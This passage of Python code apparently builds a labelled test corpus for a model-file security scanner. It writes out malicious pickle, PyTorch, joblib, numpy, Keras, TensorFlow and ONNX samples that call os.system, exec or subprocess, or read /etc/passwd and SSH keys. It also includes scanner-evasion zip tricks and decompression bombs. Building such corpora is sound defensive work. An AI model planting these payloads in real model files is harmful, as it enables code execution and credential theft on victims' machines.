    benign1 = pickle.dumps({"epoch": 3, "lr": 0.001}, protocol=2)
    M("pickle/multi/second_of_two.pkl", benign1 + payload_pickle(2), "pickle_multi_stream", "benign dict pickle, then payload pickle")
    M("pickle/multi/sixth_of_six.pkl", b"".join(pickle.dumps(i, protocol=2) for i in range(5)) + payload_pickle(4), "pickle_multi_stream",
      "five benign pickles then payload in the 6th (beyond a 5-pickle scan limit)")
    M("pickle/multi/mixed_protocols.pkl", pickle.dumps([1, 2], protocol=0) + pickle.dumps("x", protocol=5) + payload_pickle(0), "pickle_multi_stream",
      "protocol 0 + protocol 5 + protocol 0 payload pickle")
    M("pickle/multi/memo_across_pickles.pkl",
      b"\x80\x02" + bu("os") + b"q\x00" + bu("system") + b"q\x01" + b"0." + b"\x80\x04" + sbu("x") + b"0" + sbu("os") + sbu("system") + b"\x93" + sbu(CMD) + b"\x85R.",
      "pickle_multi_stream", "first pickle memoises strings (memo resets per pickle); second builds the global itself")

    # ------------------------------------------------------------------ PyTorch zip
    bad_extra = bu("_hook") + G("builtins", "eval") + bu(PYSRC) + b"\x85R"
    bad = torch_datapkl(TENS, extra=bad_extra)
    good = torch_datapkl(TENS)
    M("torch/zip_eval.pt", torch_zip(bad, TENS), "pytorch_zip", "torch zip; data.pkl has builtins.eval value")
    M("torch/zip_renamed_dir.pth", torch_zip(torch_datapkl(TENS, extra=bu("x") + call(G("posix", "system"), [bu(CMD)], 2)), TENS, archive="resnet50_final"),
      "pytorch_zip", "torch zip with inner dir renamed (resnet50_final/data.pkl)")
    M("torch/zip_deep_dir.bin", torch_zip(torch_datapkl(TENS, extra=bu("x") + call(G("subprocess", "call"), [lst([bu("touch"), bu(MARK_FILE)], 2)], 2)), TENS, archive="a/b/c"),
      "pytorch_zip", "torch zip with nested inner dir a/b/c/data.pkl, .bin extension")
    M("torch/zip_deflated.pt", torch_zip(bad, TENS, compress=zipfile.ZIP_DEFLATED), "pytorch_zip", "torch zip with deflate-compressed members")
    M("torch/zip_payload_in_storage_pid.pt",
      torch_zip(torch_datapkl(TENS, wrap=lambda o: o + b"0" + call(SG("posixpath", "os.system"), [bu(CMD)], 2)), TENS), "pytorch_zip",
      "payload after state_dict items, via STACK_GLOBAL posixpath.os.system in a protocol-2 data.pkl")
    M("torch/zip_param_payload.ckpt",
      torch_zip(torch_datapkl(TENS, param=True, extra=bu("cb") + call(G("runpy", "run_path"), [bu("/tmp/rampart_corpus_marker.py")], 2)), TENS),
      "pytorch_zip", "Parameter-wrapped state_dict (.ckpt) plus runpy.run_path")
    M("torch/zip_constants_pkl.pt", torch_zip(good, TENS, extra_members=[("archive/constants.pkl", payload_pickle(2))]), "pytorch_zip",
      "benign data.pkl; payload in archive/constants.pkl (TorchScript member)")
    M("torch/zip_extra_pkl_member.pt", torch_zip(good, TENS, extra_members=[("archive/extra/hooks.pkl", payload_pickle(4))]), "pytorch_zip",
      "benign data.pkl; payload in an additional .pkl member")
    # zip tricks
    dup = zbytes([("archive/data.pkl", bad), ("archive/byteorder", b"little"), ("archive/data.pkl", good), ("archive/version", b"3\n")])
    M("zip/duplicate_first_malicious.pt", dup, "zip_tricks", "duplicate archive/data.pkl: first malicious, last benign")
    dup2 = zbytes([("archive/data.pkl", good), ("archive/byteorder", b"little"), ("archive/data.pkl", bad), ("archive/version", b"3\n")])
    M("zip/duplicate_last_malicious.pt", dup2, "zip_tricks", "duplicate archive/data.pkl: first benign, last malicious")
    M("zip/nested_zip.zip", zbytes([("model.pt", torch_zip(bad, TENS)), ("README.md", b"model\n")]), "zip_tricks", "zip containing a malicious torch zip")
    M("zip/nested_3_deep.zip", zbytes([("l1.zip", zbytes([("l2.zip", zbytes([("model.pt", torch_zip(bad, TENS))]))]))]), "zip_tricks",
      "torch zip nested three zips deep")
    M("zip/extensionless_proto1_member.pt", torch_zip(good, TENS, extra_members=[("archive/data/99", G("os", "system") + b"(X" + struct.pack("<I", len(CMD)) + CMD.encode() + b"tR.")]),
      "zip_tricks", "benign data.pkl; protocol-1 pickle payload (no \\x80 magic) in extension-less member archive/data/99")

    def set_encrypted(buf, lo, cd):
        buf[lo + 6] |= 1
        buf[cd + 8] |= 1
    M("zip/encrypted_flag.pt", zip_patch(torch_zip(bad, TENS), "archive/data.pkl", set_encrypted), "zip_tricks",
      "general-purpose 'encrypted' flag set on data.pkl (data is not encrypted)")

    def bad_crc(buf, lo, cd):
        buf[lo + 14:lo + 18] = b"\xde\xad\xbe\xef"
        buf[cd + 16:cd + 20] = b"\xde\xad\xbe\xef"
    M("zip/crc_mismatch.pt", zip_patch(torch_zip(bad, TENS), "archive/data.pkl", bad_crc), "zip_tricks", "CRC-32 of data.pkl wrong in both headers")

    def local_name(buf, lo, cd):
        nlen = struct.unpack("<H", buf[lo + 26:lo + 28])[0]
        buf[lo + 30:lo + 30 + nlen] = b"archive/readme.txt"[:nlen].ljust(nlen, b"_")
    M("zip/local_central_name_mismatch.pt", zip_patch(torch_zip(bad, TENS), "archive/data.pkl", local_name), "zip_tricks",
      "central directory says archive/data.pkl, local header says archive/readme.t")
    M("zip/prefixed_junk.pt", b"\x00" * 64 + b"NOT A ZIP HEADER" + torch_zip(bad, TENS), "zip_tricks", "80 bytes of junk before a malicious torch zip")
    M("zip/npz_like_with_pkl.zip", zbytes([("weights.npy", npy(np.zeros(3, np.float32))), ("meta.pickle", payload_pickle(3))]), "zip_tricks",
      "generic zip with a .pickle member")
    M("zip/bzip2_member.pt", torch_zip(bad, TENS, compress=zipfile.ZIP_BZIP2), "zip_tricks", "torch zip with bzip2 (method 12) members")
    M("zip/lzma_member.pt", torch_zip(bad, TENS, compress=zipfile.ZIP_LZMA), "zip_tricks", "torch zip with LZMA (method 14) members")
    M("zip/mar_model.mar", zbytes([("MAR-INF/MANIFEST.json", b'{"model":{"serializedFile":"model.pt"}}'), ("model.pt", torch_zip(bad, TENS)), ("handler.py", b"# handler\n")]),
      "zip_tricks", "TorchServe .mar archive containing a malicious torch zip")

    # ------------------------------------------------------------------ legacy PyTorch
    def legacy(obj_pkl, keys=(b"0",), data_extra=b""):
        out = (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
               + pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
               + obj_pkl + pickle.dumps([k.decode() for k in keys], protocol=2))
        for _ in keys:
            out += struct.pack("<q", 3) + np.ones(3, np.float32).tobytes()
        return out + data_extra
    M("torch/legacy_payload_obj.bin", legacy(bad, keys=(b"0", b"1")), "pytorch_legacy", "legacy magic stream, payload in the object pickle (4th)")
    M("torch/legacy_payload_keys.pt", legacy(good, keys=())[:-len(pickle.dumps([], protocol=2))] + payload_pickle(2), "pytorch_legacy",
      "legacy stream whose storage-key list pickle (5th) is the payload")
    M("torch/legacy_magic_bypass.pt", payload_pickle(2) + legacy(good, keys=(b"0", b"1")), "pytorch_legacy",
      "magic-number bypass: a payload pickle before the magic number")
    M("torch/legacy_sysinfo_payload.pth",
      pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2) + b"\x80\x02}(" + bu("little_endian") + call(G("os", "system"), [bu(CMD)], 2) + b"u."
      + good + pickle.dumps(["0", "1"], protocol=2), "pytorch_legacy", "legacy stream with payload in the sys_info (3rd) pickle")
    M("torch/legacy_after_storage.pt", legacy(good, keys=(b"0", b"1"), data_extra=payload_pickle(2)), "pytorch_legacy",
      "legacy stream with a payload pickle appended after the raw storage bytes")
    M("torch/legacy_tar.tar", tar_bytes([("sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True}, protocol=2)),
                                         ("pickle", bad), ("storages", pickle.dumps(0, protocol=2)), ("tensors", pickle.dumps(0, protocol=2))]),
      "pytorch_tar", "legacy torch tar format (sys_info/pickle/storages/tensors), payload in 'pickle'")
    M("torch/legacy_tar_sysinfo.pt", tar_bytes([("sys_info", payload_pickle(2)), ("pickle", good), ("storages", pickle.dumps(0, protocol=2)),
                                               ("tensors", pickle.dumps(0, protocol=2))]), "pytorch_tar", "legacy torch tar, payload in 'sys_info', .pt extension")
    M("torch/legacy_tar_storages.pt", tar_bytes([("sys_info", pickle.dumps({"little_endian": True}, protocol=2)), ("pickle", good),
                                                ("storages", payload_pickle(0)), ("tensors", pickle.dumps(0, protocol=2))]), "pytorch_tar",
      "legacy torch tar, protocol-0 payload in 'storages'")

    # ------------------------------------------------------------------ compressed pickles (joblib, pandas)
    jl = b"\x80\x04" + sbu("est") + b"0" + call(SG("subprocess", "call"), [b"](" + sbu("touch") + sbu(MARK_FILE) + b"e"], 4) + b"."
    M("joblib/gzip.joblib", gzip.compress(jl, mtime=0), "compressed_pickle", "gzip-compressed payload pickle (joblib)")
    M("joblib/zlib.joblib", zlib.compress(jl), "compressed_pickle", "zlib stream ('x' magic) payload pickle (joblib)")
    M("joblib/bz2.joblib", bz2.compress(jl), "compressed_pickle", "bz2 payload pickle (joblib)")
    M("joblib/xz.joblib", lzma.compress(jl, format=lzma.FORMAT_XZ), "compressed_pickle", "xz payload pickle (joblib)")
    M("joblib/lzma_alone.joblib", lzma.compress(jl, format=lzma.FORMAT_ALONE), "compressed_pickle", "legacy .lzma (FORMAT_ALONE) payload pickle")
    M("joblib/gzip_of_gzip.joblib", gzip.compress(gzip.compress(jl, mtime=0), mtime=0), "compressed_pickle", "gzip inside gzip")
    M("joblib/model.pkl", gzip.compress(jl, mtime=0), "compressed_pickle", "gzip payload with a plain .pkl extension")
    M("joblib/model.pkl.gz", gzip.compress(payload_pickle(4), mtime=0), "compressed_pickle", ".pkl.gz payload (pandas.read_pickle)")
    M("joblib/model.pkl.bz2", bz2.compress(payload_pickle(2)), "compressed_pickle", ".pkl.bz2 payload (pandas.read_pickle)")
    M("joblib/model.pkl.xz", lzma.compress(payload_pickle(5)), "compressed_pickle", ".pkl.xz payload (pandas.read_pickle)")
    M("joblib/noext_gzip", gzip.compress(payload_pickle(3), mtime=0), "compressed_pickle", "extension-less gzip payload")

    def joblib_wrapper(arr, p=4):
        st = (SG("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + sbu("subclass") + SG("numpy", "ndarray")
              + sbu("shape") + b"K" + bytes([arr.shape[0]]) + b"\x85" + sbu("order") + sbu("C") + sbu("dtype")
              + call(SG("numpy", "dtype"), [sbu(arr.dtype.str[1:]), b"\x89", b"\x88"], 4) + b"(K\x03" + sbu("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
              + sbu("allow_mmap") + b"\x88" + sbu("numpy_array_alignment_bytes") + b"K\x10ub")
        return st + b"\x03\xff\xff\xff" + arr.tobytes()
    jw = b"\x80\x04}(" + sbu("coef_") + joblib_wrapper(np.arange(4, dtype=np.float64)) + sbu("n_features_in_") + b"K\x04u."
    R("joblib/benign_numpy_wrapper.joblib", jw, "review_joblib", "joblib NumpyArrayWrapper layout, raw array bytes inline after BUILD")
    R("joblib/benign_numpy_wrapper_zlib.joblib", zlib.compress(jw), "review_joblib",
      "zlib-compressed joblib NumpyArrayWrapper layout")
    jwm = b"\x80\x04}(" + sbu("coef_") + joblib_wrapper(np.arange(4, dtype=np.float64)) + sbu("hook") + call(SG("os", "system"), [sbu(CMD)], 4) + b"u."
    M("joblib/payload_after_inline_array.joblib", jwm, "compressed_pickle", "joblib wrapper layout: payload after the inline raw array bytes (breaks genops first)")
    M("joblib/payload_after_inline_array_gz.joblib", gzip.compress(jwm, mtime=0), "compressed_pickle", "same, gzip-compressed")

    # ------------------------------------------------------------------ numpy
    pk3 = b"\x80\x03" + G("numpy.core.multiarray", "_reconstruct") + G("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R" + b"0" + G("builtins", "exec") + bu(PYSRC) + b"\x85R."
    M("numpy/object_exec.npy", npy_with_pickle(pk3), "numpy_pickle", "object .npy, protocol-3 pickle calling builtins.exec")
    M("numpy/object_v2_header.npy", npy_with_pickle(payload_pickle(3), version=(2, 0)), "numpy_pickle", "object .npy format 2.0 header, os.system pickle")
    M("numpy/object_v3_header.npy", npy_with_pickle(frame4(call(SG("posixpath", "os.system"), [sbu(CMD)], 4)), version=(3, 0)), "numpy_pickle",
      "object .npy format 3.0 header, dotted posixpath.os.system")
    M("numpy/object_fortran.npy", npy_with_pickle(payload_pickle(2), fortran=True), "numpy_pickle", "object .npy, fortran_order True")
    M("numpy/object.npz", zbytes([("a.npy", npy(np.zeros(3, np.float32))), ("labels.npy", npy_with_pickle(payload_pickle(3)))]), "numpy_pickle",
      "npz whose second member is an object array with a payload")
    M("numpy/object_deflated.npz", zbytes([("labels.npy", npy_with_pickle(payload_pickle(3)))], zipfile.ZIP_DEFLATED), "numpy_pickle",
      "deflated npz with object member")
    M("numpy/object_member_noext.npz", zbytes([("arr_0", npy_with_pickle(payload_pickle(2)))]), "numpy_pickle", "npz member without .npy extension")
    M("numpy/object_renamed.dat", npy_with_pickle(payload_pickle(2)), "numpy_pickle", "object .npy renamed .dat")

    # ------------------------------------------------------------------ bombs (small on disk)
    zeros = bytes(1 << 20)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = b"".join(co.compress(zeros) for _ in range(64)) + co.flush()  # 64 MiB of zeros
    def deflate_zip(name, raw, usize, crc):
        nm = name.encode()
        lh = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), usize, len(nm), 0) + nm
        return lh, nm
    crc = 0
    for _ in range(64):
        crc = zlib.crc32(zeros, crc)
    lh, nm = deflate_zip("archive/data.pkl", raw, 64 << 20, crc)
    body = lh + raw
    cds = b""
    for i in range(32):  # 32 central entries all pointing at the same local member: 2 GiB declared
        cds += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw), 64 << 20, len(nm), 0, 0, 0, 0, 0, 0) + nm
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 32, 32, len(cds), len(body), 0)
    M("bombs/overlapping_zip_bomb.pt", body + cds + eocd, "bomb", "zip: 32 central-directory entries share one 64 MiB deflate member (2 GiB expanded)")
    M("bombs/zip_64mib_zeros.zip", zbytes_deflated_big(), "bomb", "zip with one deflated member of 64 MiB zeros (ratio ~1000:1)")
    gzc = zlib.compressobj(9, zlib.DEFLATED, 31)
    gzb = b"".join(gzc.compress(zeros) for _ in range(128)) + gzc.flush()
    M("bombs/gzip_128mib.joblib", gzb, "bomb", "gzip stream of 128 MiB zeros")
    bzc = bz2.BZ2Compressor(9)
    bzb = b"".join(bzc.compress(zeros) for _ in range(256)) + bzc.flush()
    M("bombs/bz2_256mib.pkl", bzb, "bomb", "bz2 stream of 256 MiB zeros")
    pl = payload_pickle(2)
    gzc = zlib.compressobj(9, zlib.DEFLATED, 31)
    M("bombs/gzip_payload_then_64mib.pkl.gz", gzc.compress(pl) + b"".join(gzc.compress(zeros) for _ in range(64)) + gzc.flush(), "bomb",
      "gzip: payload pickle followed by 64 MiB of zero padding")
    M("bombs/nested_gzip_bomb.joblib", gzip.compress(gzip.compress(bytes(16 << 20), mtime=0), mtime=0), "bomb", "gzip of gzip of 16 MiB zeros")
    M("bombs/pickle_billion_laughs.pkl",
      b"\x80\x02]q\x000" + b"".join(b"(" + (b"h" + bytes([i])) * 4 + b"lq" + bytes([i + 1]) + b"0" for i in range(60)) + b"h\x3c.",
      "bomb", "pickle billion-laughs: 60 levels of lists referencing the previous one 4x via BINGET")

    # ------------------------------------------------------------------ Keras
    LAMBDA_CODE = base64_lambda()
    def lam(name="l"):
        return {"module": "keras.layers", "class_name": "Lambda",
                "config": {"name": name, "function": {"class_name": "__lambda__", "config": {"code": LAMBDA_CODE, "defaults": None, "closure": None}}},
                "registered_name": None}
    def dense(name="d", units=2, **kw):
        c = {"name": name, "units": units, "activation": "relu", "use_bias": True}
        c.update(kw)
        return {"module": "keras.layers", "class_name": "Dense", "config": c, "registered_name": None}
    def seq(layers, name="s"):
        return {"module": "keras", "class_name": "Sequential", "config": {"name": name, "layers": layers}, "registered_name": None}
    def functional(layers, name="f"):
        return {"module": "keras", "class_name": "Functional", "config": {"name": name, "layers": [{**l, "name": l["config"]["name"], "inbound_nodes": []} for l in layers],
                                                                              "input_layers": [], "output_layers": []}, "registered_name": None}
    def keras_zip(cfg, extra=()):
        return zbytes([("metadata.json", b'{"keras_version": "3.3.3", "date_saved": "2024-01-01@00:00:00"}'),
                       ("config.json", json.dumps(cfg, sort_keys=True).encode()), ("model.weights.h5", weights_h5())] + list(extra))
    M("keras/lambda_top.keras", keras_zip(seq([dense("d0"), lam()])), "keras_lambda", "Sequential with a top-level Lambda")
    M("keras/lambda_functional.keras", keras_zip(functional([dense("d0"), lam()])), "keras_lambda", "Functional model with a Lambda in layers[]")
    M("keras/lambda_nested_seq.keras", keras_zip(seq([dense("d0"), seq([dense("d1"), lam()], name="inner")])), "keras_lambda",
      "Lambda nested inside a sub-Sequential")
    M("keras/lambda_timedistributed.keras", keras_zip(seq([{"module": "keras.layers", "class_name": "TimeDistributed",
                                                          "config": {"name": "td", "layer": lam("inner_l")}, "registered_name": None}])),
      "keras_lambda", "Lambda wrapped in TimeDistributed")
    M("keras/lambda_bidirectional_deep.keras", keras_zip(seq([seq([seq([{"module": "keras.layers", "class_name": "Bidirectional",
                                                                        "config": {"name": "bi", "layer": lam("deep")}}], name="l2")], name="l1")])),
      "keras_lambda", "Lambda three levels deep (Sequential > Sequential > Bidirectional)")
    M("keras/lambda_activation.keras", keras_zip(seq([dense("d0", activation={"class_name": "__lambda__", "config": {"code": LAMBDA_CODE, "defaults": None, "closure": None}})])),
      "keras_lambda", "marshalled __lambda__ used as a Dense activation (no Lambda layer)")
    M("keras/custom_module_os_system.keras", keras_zip(seq([dense("d0", activation={"module": "os", "class_name": "system", "config": CMD, "registered_name": "system"})])),
      "keras_custom_object", "CVE-2025-1550 class: config references module 'os' / 'system' as an activation")
    M("keras/custom_module_builtins_exec.keras", keras_zip(seq([{"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function",
                                                                 "inner_config": PYSRC}])),
      "keras_custom_object", "layer entry whose module is builtins (function exec)")
    M("keras/custom_module_subprocess_layer.keras", keras_zip(seq([dense("d0"), {"module": "subprocess", "class_name": "Popen",
                                                                                 "config": {"args": ["touch", MARK_FILE]}, "registered_name": "Popen"}])),
      "keras_custom_object", "layer whose module/class_name is subprocess.Popen")
    M("keras/enable_unsafe_deserialization.keras", keras_zip(seq([{"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
                                                                   "registered_name": "function"}, lam()])),
      "keras_custom_object", "CVE-2025-9906 class: keras.config.enable_unsafe_deserialization then a Lambda")
    M("keras/lambda_upper_case_ext.KERAS", keras_zip(seq([lam()])), "keras_lambda", "Lambda archive with an upper-case extension")
    M("keras/lambda_no_ext", keras_zip(seq([lam()])), "keras_lambda", "Lambda archive without an extension")
    import h5py
    def h5_model(path_rel, cfg, label_fn, cat, desc):
        p = os.path.join(FILES, path_rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with h5py.File(p, "w", track_order=False, libver="earliest") as f:
            f.attrs["keras_version"] = "2.15.0"
            f.attrs["backend"] = "tensorflow"
            f.attrs["model_config"] = json.dumps(cfg, sort_keys=True)
            g = f.create_group("model_weights", track_times=False)
            g.create_dataset("d0/kernel", data=np.ones((2, 2), np.float32), track_times=False)
        data = open(p, "rb").read()
        os.remove(p)
        label_fn(path_rel, data, cat, desc)
    k2seq = lambda layers: {"class_name": "Sequential", "config": {"name": "s", "layers": layers}}  # noqa: E731
    k2lam = {"class_name": "Lambda", "config": {"name": "l", "function": [LAMBDA_CODE, None, None], "function_type": "lambda"}}
    k2dense = {"class_name": "Dense", "config": {"name": "d0", "units": 2, "activation": "relu"}}
    h5_model("keras/lambda_top.h5", k2seq([k2dense, k2lam]), M, "keras_h5", "legacy .h5 with Lambda in model_config layers[]")
    h5_model("keras/lambda_nested.h5", k2seq([k2dense, k2seq([k2lam])]), M, "keras_h5", "legacy .h5 with Lambda nested in a sub-Sequential")
    h5_model("keras/lambda_top.hdf5", k2seq([k2lam]), M, "keras_h5", "legacy .hdf5 extension with Lambda")
    h5_model("keras/benign_dense.h5", k2seq([k2dense]), B, "benign_keras", "legacy .h5 Dense model")
    B("keras/benign_dense.keras", keras_zip(seq([dense("d0"), dense("d1", units=1, activation="sigmoid")])), "benign_keras", "Keras 3 Sequential Dense model")
    B("keras/benign_functional.keras", keras_zip(functional([{"module": "keras.layers", "class_name": "InputLayer", "config": {"name": "in", "batch_shape": [None, 4]}},
                                                             dense("d0"), {"module": "keras.layers", "class_name": "Dropout", "config": {"name": "drop", "rate": 0.1}}])),
      "benign_keras", "Keras 3 Functional model (InputLayer/Dense/Dropout)")
    B("keras/benign_timedistributed.keras", keras_zip(seq([{"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td", "layer": dense("inner")}}])),
      "benign_keras", "TimeDistributed(Dense) model")
    R("keras/custom_layer_user_module.keras", keras_zip(seq([dense("d0"), {"module": "my_project.layers", "class_name": "Residual", "config": {"name": "res", "units": 2},
                                                                          "registered_name": "MyProject>Residual"}])),
      "review_keras", "registered custom layer from a user module (not keras.*); needs the module to load, inert config")

    # ------------------------------------------------------------------ TensorFlow SavedModel (hand-written protobuf)
    def vint(n):
        out = b""
        while True:
            b = n & 0x7F
            n >>= 7
            if n:
                out += bytes([b | 0x80])
            else:
                return out + bytes([b])
    def fld(num, payload):
        if isinstance(payload, int):
            return vint(num << 3) + vint(payload)
        if isinstance(payload, str):
            payload = payload.encode()
        return vint(num << 3 | 2) + vint(len(payload)) + payload
    def attr_entry(key, attr_value):
        return fld(5, fld(1, key) + fld(2, attr_value))
    def node(name, op, inputs=(), attrs=()):
        b = fld(1, name) + fld(2, op) + b"".join(fld(3, i) for i in inputs)
        for k, v in attrs:
            b += attr_entry(k, v)
        return b
    T_STRING = fld(6, 7)  # AttrValue.type = DT_STRING
    def const_str(name, val):
        tensor = fld(1, 7) + fld(2, b"") + fld(8, val)  # TensorProto dtype, shape, string_val
        return node(name, "Const", attrs=[("dtype", T_STRING), ("value", fld(8, tensor))])
    def saved_model(nodes, functions=(), tags=("serve",)):
        graph = b"".join(fld(1, n) for n in nodes)
        if functions:
            lib = b""
            for fname, fnodes in functions:
                lib += fld(1, fld(1, fld(1, fname)) + b"".join(fld(3, n) for n in fnodes))
            graph += fld(2, lib)
        graph += fld(4, fld(1, 1087) + fld(2, 0))  # versions{producer}
        meta_info = fld(1, "") + b"".join(fld(4, t) for t in tags) + fld(5, "2.15.0") + fld(6, "v2.15.0")
        mg = fld(1, meta_info) + fld(2, graph)
        return fld(1, 1) + fld(2, mg)
    saver = [node("saver_filename", "Placeholder", attrs=[("dtype", T_STRING)]),
             node("SaveV2", "SaveV2", ["saver_filename", "SaveV2/tensor_names", "SaveV2/shape_and_slices", "w"]),
             node("RestoreV2", "RestoreV2", ["saver_filename", "RestoreV2/tensor_names", "RestoreV2/shape_and_slices"]),
             node("MergeV2Checkpoints", "MergeV2Checkpoints", ["ShardedFilename"]),
             node("ShardedFilename", "ShardedFilename", ["StringJoin", "num_shards"]),
             node("StringJoin", "StringJoin", ["saver_filename", "Const_1"])]
    model_nodes = [node("x", "Placeholder"), node("w", "VarHandleOp"), node("ReadVariableOp", "ReadVariableOp", ["w"]),
                   node("MatMul", "MatMul", ["x", "ReadVariableOp"]), node("Identity", "Identity", ["MatMul"])]
    B("tf/benign/saved_model.pb", saved_model(model_nodes + saver), "benign_tf", "SavedModel graph: MatMul + standard saver ops (SaveV2/RestoreV2/MergeV2Checkpoints)")
    B("tf/benign_fn/saved_model.pb", saved_model(model_nodes[:1], functions=[("__inference_call_42", model_nodes[1:])] ), "benign_tf",
      "SavedModel with the model in a FunctionDef library")
    M("tf/readfile/saved_model.pb", saved_model(model_nodes + [const_str("fname", "/etc/passwd"), node("ReadFile", "ReadFile", ["fname"])]), "tf_savedmodel",
      "graph node ReadFile('/etc/passwd')")
    M("tf/writefile/saved_model.pb", saved_model(model_nodes + [const_str("fname", "/tmp/rampart_corpus_marker"), const_str("c", "x"),
                                                               node("WriteFile", "WriteFile", ["fname", "c"])]), "tf_savedmodel", "graph node WriteFile")
    M("tf/pyfunc/saved_model.pb", saved_model(model_nodes + [node("py", "PyFunc", ["x"], attrs=[("token", fld(2, "pyfunc_0"))])]), "tf_savedmodel", "graph node PyFunc")
    M("tf/eagerpyfunc_in_function/saved_model.pb",
      saved_model(model_nodes[:1], functions=[("__inference_call_7", model_nodes[1:] + [node("epf", "EagerPyFunc", ["x"], attrs=[("token", fld(2, "pyfunc_1"))])])]),
      "tf_savedmodel", "EagerPyFunc hidden inside a FunctionDef of the function library")
    M("tf/writefile_in_function/saved_model.pb",
      saved_model(model_nodes, functions=[("__inference_serve_9", [const_str("f", "/tmp/rampart_corpus_marker"), node("wf", "WriteFile", ["f", "f"])])]),
      "tf_savedmodel", "WriteFile hidden in a FunctionDef")
    M("tf/matchingfiles_readfile/saved_model.pb", saved_model(model_nodes + [const_str("pat", "/home/*/.ssh/*"), node("mf", "MatchingFiles", ["pat"]),
                                                                            node("rf", "ReadFile", ["mf"])]), "tf_savedmodel", "MatchingFiles + ReadFile (exfiltration)")
    M("tf/pyfunc_stateless_renamed.pb", saved_model(model_nodes + [node("pfs", "PyFuncStateless", ["x"])]), "tf_savedmodel",
      "PyFuncStateless in a SavedModel saved under another file name")
    kmeta = lambda cfg: fld(1, fld(1, 1) + fld(3, "_tf_keras_model") + fld(4, json.dumps(cfg)) + fld(2, ""))  # noqa: E731
    M("tf/keras_meta/keras_metadata.pb", kmeta({"class_name": "Sequential", "config": {"layers": [k2dense, k2lam]}}), "tf_savedmodel",
      "SavedModel keras_metadata.pb whose metadata JSON has a Lambda layer")

    # ------------------------------------------------------------------ ONNX
    X = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])
    Y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])
    def onnx_model(nodes, inits, opsets=(("", 17),), functions=()):
        g = helper.make_graph(nodes, "g", [X], [Y], inits)
        m = helper.make_model(g, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets], functions=list(functions), producer_name="rampart-corpus")
        m.ir_version = 8
        return m.SerializeToString()
    def ext_tensor(name, location, offset="0", length="16", dims=(2, 2)):
        w = helper.make_tensor(name, TensorProto.FLOAT, list(dims), [1.0, 0.0, 0.0, 1.0] if list(dims) == [2, 2] else [])
        w.ClearField("float_data")
        w.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", offset), ("length", length)):
            e = w.external_data.add()
            e.key, e.value = k, v
        return w
    mm = [helper.make_node("MatMul", ["X", "W"], ["Y"])]
    for name, loc, desc in [("dotdot", "../../../../etc/passwd", "location ../../../../etc/passwd"),
                            ("absolute", "/etc/shadow", "absolute location /etc/shadow"),
                            ("backslash", "..\\..\\..\\Windows\\win.ini", "Windows-style ..\\ traversal"),
                            ("drive_letter", "C:\\Windows\\System32\\config\\SAM", "Windows drive-letter absolute path"),
                            ("inner_dotdot", "weights/../../../root/.ssh/id_rsa", "traversal after a harmless prefix"),
                            ("proc_self", "/proc/self/environ", "absolute /proc/self/environ"),
                            ("dot_slash", "./../../etc/passwd", "./../../ traversal")]:
        M(f"onnx/ext_{name}.onnx", onnx_model(mm, [ext_tensor("W", loc)]), "onnx_external_data", desc)
    then_g = helper.make_graph([helper.make_node("Identity", ["C"], ["Y"])], "then", [], [Y], [ext_tensor("C", "../../etc/hostname")])
    else_g = helper.make_graph([helper.make_node("Identity", ["X"], ["Y"])], "else", [], [Y])
    M("onnx/ext_in_subgraph.onnx", onnx_model([helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])),
                                                helper.make_node("If", ["cond"], ["Y"], then_branch=then_g, else_branch=else_g)], []),
      "onnx_external_data", "traversal in an initializer of an If subgraph")
    M("onnx/ext_in_constant_attr.onnx", onnx_model([helper.make_node("Constant", [], ["W"], value=ext_tensor("v", "/etc/passwd")), mm[0]], []),
      "onnx_external_data", "external data in a Constant node's attribute tensor")
    R("onnx/custom_domain_op.onnx", onnx_model([helper.make_node("Exec", ["X"], ["Y"], domain="com.evil.ops", cmd=CMD)], [], opsets=(("", 17), ("com.evil.ops", 1))),
      "review_onnx_custom_domain", "node in unknown custom domain com.evil.ops (inert unless a native custom-op library is registered)")
    R("onnx/custom_domain_pyop.onnx", onnx_model([helper.make_node("PyOp", ["X"], ["Y"], domain="ai.onnx.contrib", module="os", function="system")], [],
                                                  opsets=(("", 17), ("ai.onnx.contrib", 1))), "review_onnx_custom_domain",
      "onnxruntime-extensions PyOp (ai.onnx.contrib) with attributes naming os.system (runs only a Python function the user registered)")
    fn = helper.make_function("com.attacker", "Run", ["a"], ["b"], [helper.make_node("Identity", ["a"], ["b"])], [helper.make_opsetid("", 17)])
    R("onnx/custom_function_domain.onnx", onnx_model([helper.make_node("Run", ["X"], ["Y"], domain="com.attacker")], [], opsets=(("", 17), ("com.attacker", 1)),
                                                      functions=[fn]), "review_onnx_custom_domain", "model-local function in custom domain com.attacker (body is a standard Identity)")
    M("onnx/oversize_ext_length.onnx", onnx_model(mm, [ext_tensor("W", "weights.bin", length=str(2**62))]), "onnx_oversize",
      "external data length 2^62 (relative location)")
    M("onnx/oversize_ext_offset.onnx", onnx_model(mm, [ext_tensor("W", "weights.bin", offset=str(2**63 - 1))]), "onnx_oversize", "external data offset 2^63-1")
    def raw_tensor(name, dims):
        t = TensorProto()
        t.name, t.data_type = name, TensorProto.FLOAT
        t.dims.extend(dims)
        return t
    big = raw_tensor("W", [2**40, 2**40])
